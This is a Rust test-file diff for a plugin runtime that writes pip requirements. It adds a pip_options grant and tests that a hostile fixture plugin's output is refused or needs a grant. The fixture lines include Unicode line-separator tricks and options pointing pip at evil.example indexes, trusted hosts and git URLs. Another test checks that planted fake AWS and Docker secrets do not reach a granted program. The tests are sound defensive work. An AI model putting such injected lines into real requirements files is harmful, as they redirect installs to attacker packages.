@@ -156,6 +156,7 @@ fn a_read_grant_is_read_only_and_limited_to_its_directory() {
     let grants = Grants {
         read: vec![granted.clone()],
         exec: vec![],
+        pip_options: Vec::new(),
     };
 
     let inside = granted.join("requirements.txt").display().to_string();
@@ -297,6 +298,7 @@ fn exec_needs_a_grant_that_the_manifest_asked_for() {
     let grants = Grants {
         read: vec![],
         exec: vec!["true".into()],
+        pip_options: Vec::new(),
     };
     let ok = call_with(
         &rt,
@@ -310,6 +312,7 @@ fn exec_needs_a_grant_that_the_manifest_asked_for() {
     let grants = Grants {
         read: vec![],
         exec: vec!["false".into()],
+        pip_options: Vec::new(),
     };
     let err = call_with(
         &rt,
@@ -481,6 +484,7 @@ fn the_builtin_requirements_plugin_reads_a_list_and_a_file() {
         grants: Grants {
             read: vec![project.clone()],
             exec: vec![],
+            pip_options: Vec::new(),
         },
     };
     let file = rt.contribute(&plugin, &req).unwrap().value;
@@ -549,6 +553,7 @@ fn a_granted_program_that_never_ends_is_killed_with_its_process_group() {
     let grants = Grants {
         read: vec![],
         exec: vec!["sh".into()],
+        pip_options: Vec::new(),
     };
     // The grandchild `sleep` is in the same process group as the `sh` the plugin ran.
     let script = format!("{marker} & wait");
@@ -585,6 +590,7 @@ fn a_fifo_in_a_read_grant_is_refused_not_waited_for() {
     let grants = Grants {
         read: vec![granted.path().to_path_buf()],
         exec: vec![],
+        pip_options: Vec::new(),
     };
     let dir = tempfile::tempdir().unwrap();
     let rt = runtime(dir.path());
@@ -628,7 +634,10 @@ fn child_call_for_peak_rss() {
         .as_array()
         .map(|a| a.iter().map(|p| p.as_str().unwrap().to_string()).collect())
         .unwrap_or_default();
-    let grants = Grants { read: vec![], exec };
+    let grants = Grants {
+        exec,
+        ..Grants::default()
+    };
     let outcome = call_with(&rt, &plugin, call["settings"].clone(), grants);
     let status = std::fs::read_to_string("/proc/self/status").unwrap();
     let hwm = status
@@ -640,7 +649,12 @@ fn child_call_for_peak_rss() {
         .parse::<u64>()
         .unwrap();
     match outcome {
-        Ok(c) => println!("OUTCOME ok, {} notes", c.notes.len()),
+        Ok(c) if c.notes.is_empty() => println!("OUTCOME ok, 0 notes"),
+        Ok(c) => println!(
+            "OUTCOME ok, {} notes: {}",
+            c.notes.len(),
+            c.notes.join(" | ").replace('\n', " ")
+        ),
         Err(e) => println!("OUTCOME {}", e.to_string().replace('\n', " | ")),
     }
     println!("PEAK_RSS_KIB {hwm}");
@@ -649,6 +663,11 @@ fn child_call_for_peak_rss() {
 /// Runs one call of the hostile fixture in a child process; its outcome line and peak RSS
 /// in MiB.
 fn peak_rss_of_call(settings: serde_json::Value, exec: &[&str]) -> (String, u64) {
+    child_call(settings, exec, &[])
+}
+
+/// [`peak_rss_of_call`] with `env` added to the child's environment.
+fn child_call(settings: serde_json::Value, exec: &[&str], env: &[(&str, &str)]) -> (String, u64) {
     let call = json!({"settings": settings, "exec": exec});
     let out = std::process::Command::new(std::env::current_exe().unwrap())
         .args([
@@ -658,6 +677,7 @@ fn peak_rss_of_call(settings: serde_json::Value, exec: &[&str]) -> (String, u64)
             "--test-threads=1",
         ])
         .env(CHILD_CALL, call.to_string())
+        .envs(env.iter().copied())
         .output()
         .unwrap();
     let stdout = String::from_utf8_lossy(&out.stdout);
@@ -726,4 +746,98 @@ fn the_memory_bomb_keeps_the_host_bounded() {
         "{outcome}"
     );
     assert!(peak < RSS_BOUND_MIB, "peak RSS {peak} MiB");
+}
+
+// --- Output: nothing a plugin returns can change how pip or uv read the files (issue 10) ---
+
+fn lines(rt: &Runtime, plugin: &Plugin, lines: &[&str], grants: Grants) -> Result<(), PluginError> {
+    call_with(rt, plugin, json!({"mode": "lines", "args": lines}), grants).map(|_| ())
+}
+
+#[test]
+fn lines_pip_would_read_differently_are_refused_at_the_plugin_boundary() {
+    let dir = tempfile::tempdir().unwrap();
+    let rt = runtime(dir.path());
+    let plugin = hostile(&rt);
+    for line in [
+        "numpy\u{2028}--index-url https://evil.example/simple",
+        "numpy\u{85}evilpkg==6.6.6",
+        "numpy\u{c}evilpkg==6.6.6",
+        "pandas \\",
+        "nu\u{200b}mpy",
+        "numpy\u{202e}",
+    ] {
+        let err = lines(&rt, &plugin, &[line], Grants::default()).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::MalformedOutput(_)), "{err}");
+        let text = err.to_string();
+        assert!(text.starts_with("plugin hostile 0.1.0: "), "{text}");
+        assert!(
+            !text.contains(['\u{2028}', '\u{85}', '\u{c}', '\u{200b}', '\u{202e}']),
+            "shown escaped: {text:?}"
+        );
+    }
+}
+
+#[test]
+fn a_third_party_plugins_pip_options_and_urls_need_a_grant() {
+    let dir = tempfile::tempdir().unwrap();
+    let rt = runtime(dir.path());
+    let plugin = hostile(&rt);
+    for (line, option) in [
+        (
+            "--extra-index-url https://evil.example/simple",
+            "extra-index-url",
+        ),
+        ("--index-url=https://evil.example/simple", "index-url"),
+        ("-i https://evil.example/simple", "index-url"),
+        ("--trusted-host evil.example", "trusted-host"),
+        ("-f https://evil.example/wheels", "find-links"),
+        ("-r /etc/other.txt", "requirement"),
+        ("numpy @ https://evil.example/numpy.whl", "url"),
+        ("git+https://evil.example/numpy.git", "url"),
+    ] {
+        let err = lines(&rt, &plugin, &[line], Grants::default()).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Refused(_)), "{err}");
+        assert!(
+            err.to_string()
+                .contains(&format!("grants: {{hostile: {{pip_options: [{option}]}}}}")),
+            "{err}"
+        );
+        let granted = Grants {
+            pip_options: vec![option.to_string()],
+            ..Grants::default()
+        };
+        lines(&rt, &plugin, &[line], granted).expect("granted");
+    }
+    lines(
+        &rt,
+        &plugin,
+        &["numpy>=1.26 ; python_version >= '3.9'"],
+        Grants::default(),
+    )
+    .expect("a plain requirement needs no grant");
+}
+
+#[test]
+fn a_granted_program_sees_a_clean_environment() {
+    let (outcome, _) = child_call(
+        json!({"mode": "exec", "path": "sh", "args": ["-c", "env | cut -d= -f1 | sort | tr '\\n' ' '"]}),
+        &["sh"],
+        &[
+            ("AWS_SECRET_ACCESS_KEY", "leaked"),
+            ("DOCKER_AUTH", "leaked"),
+        ],
+    );
+    let names: Vec<&str> = outcome
+        .strip_prefix("ok, 2 notes: status 0 | ")
+        .unwrap_or_else(|| panic!("{outcome}"))
+        .split_whitespace()
+        .collect();
+    assert!(
+        names
+            .iter()
+            .all(|n| ["PATH", "HOME", "LANG", "PWD", "SHLVL", "_"].contains(n)),
+        "{names:?}"
+    );
+    assert!(names.contains(&"PATH"), "{names:?}");
 }
